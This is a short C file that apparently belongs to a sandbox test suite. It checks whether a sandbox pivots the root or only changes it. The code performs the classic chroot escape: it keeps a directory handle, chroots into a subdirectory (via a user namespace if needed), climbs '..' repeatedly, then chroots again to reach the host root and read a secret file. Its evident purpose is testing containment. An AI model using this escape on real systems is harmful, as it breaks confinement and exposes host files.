/* SPDX-License-Identifier: Apache-2.0 */
/*
 * wall: the root is pivoted, not only changed
 * cve: none (the classic way out of chroot)
 * off: unshare -Ur chroot {project}
 * behind: --allow-userns
 * as: user root
 * args: {T}/outside
 *
 * With the working directory outside of a second chroot(2), ".." has no end.
 */
#include "attack.h"

int main(int argc, char **argv)
{
	int dir = open(".", O_PATH | O_DIRECTORY);
	int error;

	if (argc < 3 || dir < 0)
		broken("arguments");
	mkdir("jail", 0700);
	if (chroot("jail")) {
		error = errno;
		if (enter_userns(CLONE_NEWNS) || chroot("jail")) {
			errno = error;
			refused("chroot");
		}
	}
	if (fchdir(dir))
		broken("fchdir");
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	if (chroot("."))
		broken("second chroot");
	if (reads_secret(AT_FDCWD, argv[2]))
		through("the host's root");
	errno = ENOENT;
	refused("chroot works, but leads to no other root");
}
